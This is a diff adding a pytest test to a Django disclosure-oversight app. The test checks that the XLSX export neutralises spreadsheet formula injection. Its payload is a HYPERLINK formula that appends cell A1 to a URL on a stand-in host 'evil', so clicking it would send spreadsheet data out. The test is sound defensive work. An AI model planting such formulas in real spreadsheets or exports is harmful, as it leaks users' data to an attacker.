@@ -177,3 +177,14 @@ def test_dashboard_query_count_does_not_grow_with_organizations(
         make_disclosure(org, world.award, title=f"新增{i}", due_on=dt.date(2025, 11, 3))
     with django_assert_max_num_queries(len(before.captured_queries) + 3):
         sup_client.get(f"/staff/oversight/?{Q}")
+
+
+def test_export_xlsx_keeps_a_formula_in_a_title_as_text(sup_client, world):
+    from gongkai.disclosures.models import Disclosure
+
+    payload = '=HYPERLINK("http://evil/?x="&A1,"点我")'
+    assert Disclosure.objects.filter(title="逾期未发布").update(title=payload) == 1
+    wb = load_workbook(io.BytesIO(sup_client.get(f"/staff/oversight/export.xlsx?{Q}").content))
+    titles = [row[0] for row in wb["逾期未公开"].iter_rows(min_row=2, values_only=True)]
+    assert "'" + payload in titles
+    assert not [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
